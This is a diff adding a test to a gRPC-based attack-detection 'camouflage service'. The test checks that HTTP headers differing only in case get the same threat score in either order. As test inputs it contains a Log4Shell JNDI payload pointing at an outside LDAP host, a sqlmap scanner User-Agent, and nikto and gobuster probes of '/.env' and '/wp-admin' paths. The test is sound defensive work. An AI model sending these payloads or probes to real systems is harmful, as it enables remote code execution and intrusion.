@@ -149,6 +149,38 @@ describe('camouflage service over gRPC', function () {
     expect(metrics).not.to.include(token);
   });
 
+  // HTTP header names are case-insensitive, so "X-Api-Version" and "x-api-version" are one field: a harmless twin
+  // differing only in case neither hides the other's payload, scanner User-Agent or honeytoken, and the map's order
+  // (which protobuf leaves undefined) does not change the verdict.
+  it('scores every value of headers whose names differ only in case, in any order', async () => {
+    const both = async (hostile: [string, string], harmless: [string, string], overrides: Partial<AssessRequest> = {}) => {
+      const scored = [];
+      for (const pair of [[hostile, harmless], [harmless, hostile]]) {
+        const { error, response } = await assess(a, request({ headers: { ...BROWSER_HEADERS, ...Object.fromEntries(pair) }, ...overrides }));
+        expect(error).to.equal(null);
+        scored.push(response!);
+      }
+      expect(scored[1]!.threatLevel).to.equal(scored[0]!.threatLevel);
+      expect(scored[1]!.signals).to.deep.equal(scored[0]!.signals);
+      return scored[0]!;
+    };
+    const jndi = await both(['x-api-version', '${jndi:ldap://198.51.100.9/a}'], ['X-Api-Version', '1']);
+    expect(jndi.signals.map((s) => s.name)).to.include('log4shell-jndi');
+    expect(jndi.threatLevel).to.be.at.least(9);
+    // No user_agent field: the header is the User-Agent.
+    const scanner = await both(['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'], ['User-Agent', BROWSER_UA], { userAgent: '' });
+    expect(scanner.signals.map((s) => s.name)).to.include('scanner-user-agent');
+
+    let token = '';
+    for (let i = 0; i < 30 && token === ''; i++) {
+      token = (await assess(a, request({ path: '/.env', userAgent: 'nikto/2.5.0', headers: {} }))).response!.honeytoken;
+    }
+    expect(token, 'some attack-tier decision served a honeytoken').to.not.equal('');
+    const replayed = await both(['authorization', `Bearer ${token}`], ['Authorization', 'Bearer 0f3c9a'], { path: '/api/login' });
+    expect(replayed.honeytokenTriggered).to.equal(true);
+    expect(replayed.threatLevel).to.equal(10);
+  });
+
   // An outcome recorded on one replica is visible in the other's bandit statistics; a second outcome is refused.
   it('shares learning across replicas and records each outcome once', async () => {
     const { response } = await assess(a, request({ path: '/wp-admin/setup-config.php', userAgent: 'gobuster/3.6', headers: {} }));
